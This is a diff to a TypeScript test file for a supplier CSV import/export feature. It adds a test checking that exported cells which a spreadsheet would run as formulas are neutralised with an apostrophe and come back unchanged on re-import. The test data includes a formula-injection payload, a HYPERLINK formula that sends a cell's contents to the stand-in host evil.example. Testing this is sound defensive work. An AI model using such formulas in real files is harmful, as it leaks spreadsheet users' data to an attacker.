@@ -1,7 +1,8 @@
 import ExcelJS from 'exceljs';
 import { createTestApp, TestApp } from '../support/app';
 import { ADMIN_ENV, createUser, registerUser, TestUser } from '../support/accounts';
-import { randomNib, uniqueWord } from '../support/suppliers';
+import { parse } from 'csv-parse/sync';
+import { createSupplier, randomNib, uniqueWord } from '../support/suppliers';
 
 /** A district office's list: Indonesian headers, semicolons, decimal commas. */
 const HEADER =
@@ -184,6 +185,33 @@ describe('Supplier import and export', () => {
     expect(text).not.toMatch(/npwp/i);
     const ours = [text.split('\n')[0], ...text.split('\n').filter((line) => line.includes(tag))].join('\n');
     const again = await upload(Buffer.from(ours), 'export.csv').expect(200);
+    expect(again.body).toMatchObject({ rows: 2, created: 0, updated: 0, unchanged: 2, errors: [] });
+  });
+
+  it('never exports a cell a spreadsheet would run as a formula, and such cells import back as they were', async () => {
+    const tag = uniqueWord();
+    const attack = '=HYPERLINK("http://evil.example/steal?d="&A2,"Lihat sertifikat")';
+    await createSupplier(t, owner, { description: `${attack} ${tag}` });
+    const tabbed = randomNib();
+    await upload(
+      csv(row(tag, tabbed, { deskripsi: `"\t=1+2 ${tag}"`, telepon: '+62 812-2345-6789' })),
+      'tab.csv',
+    ).expect(200);
+    const exported = await t.http
+      .get('/api/v1/suppliers/export.csv')
+      .set('Authorization', curator.auth)
+      .buffer(true)
+      .expect(200);
+    const lines: string[] = exported.text.split('\n').filter((line: string) => line.includes(tag));
+    expect(lines).toHaveLength(2);
+    const cells = lines.flatMap((line): string[][] => parse(line)).flat();
+    // Numbers (the negative latitudes) are written as numbers, which are never formulas.
+    const formulaLike = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell));
+    expect(formulaLike).toEqual([]);
+    expect(cells).toEqual(expect.arrayContaining([`'${attack} ${tag}`, `'=1+2 ${tag}`, "'+62 812-2345-6789"]));
+    // Read back, the apostrophe is gone: the stored values are unchanged.
+    const header = exported.text.split('\n')[0];
+    const again = await upload(Buffer.from([header, ...lines].join('\n')), 'export.csv').expect(200);
     expect(again.body).toMatchObject({ rows: 2, created: 0, updated: 0, unchanged: 2, errors: [] });
   });
 });
